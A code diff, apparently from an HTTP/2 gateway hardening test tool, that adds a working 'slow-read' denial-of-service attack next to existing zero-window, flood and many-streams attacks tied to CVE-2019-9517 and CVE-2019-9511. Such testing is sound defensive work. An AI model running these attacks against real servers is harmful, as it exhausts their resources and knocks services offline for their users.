@@ -30,6 +30,8 @@ Attacks:
   zero-window        --count N streams: SETTINGS_INITIAL_WINDOW_SIZE 0, GET --path on N streams, never
                      WINDOW_UPDATE (--dribble B: B bytes per stream every 200 ms); watches for --hold seconds
                      (CVE-2019-9517, CVE-2019-9511)
+  slow-read          all windows open, GET --path, then the socket is not read for --hold seconds (prints
+                     "local PORT" first, so the caller can watch the connection)
   many-streams       --count N: N requests without END_STREAM before reading anything (over max concurrent);
                      --ack-first: after acknowledging the server's SETTINGS
   malformed          --case NAME[,NAME...]: per case, on a new connection, one malformed request (see MALFORMED)
@@ -425,6 +427,19 @@ def zero_window(c, args):
     c.finish("zero-window", {"streams": args.count})
 
 
+def slow_read(c, args):
+    """Opens every HTTP/2 window, asks for a large body and then stops reading the socket for --hold seconds
+    (the TCP receive window closes: HARDENING §B4.3), then reads what is left."""
+    c.start(struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0x7FFFFFFF))
+    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535))
+           + headers_frame(1, request_fields(args.authority, args.path)))
+    # The caller watches the gateway's side of this connection meanwhile.
+    print("local", c.sock.getsockname()[1], flush=True)
+    time.sleep(args.hold)  # the attack itself: a client that does not read
+    c.pump(10, until=lambda: c.result["closed"])
+    c.finish("slow-read")
+
+
 def many_streams(c, args):
     if args.ack_first:
         # A well-behaved client: the server's SETTINGS are acknowledged before the streams open.
@@ -531,6 +546,7 @@ ATTACKS = {
     "window-update-flood": lambda c, a: frame_flood(c, a, WINDOW_UPDATE),
     "zero-window": zero_window,
     "many-streams": many_streams,
+    "slow-read": slow_read,
     "malformed": malformed,
     "valid": valid,
 }
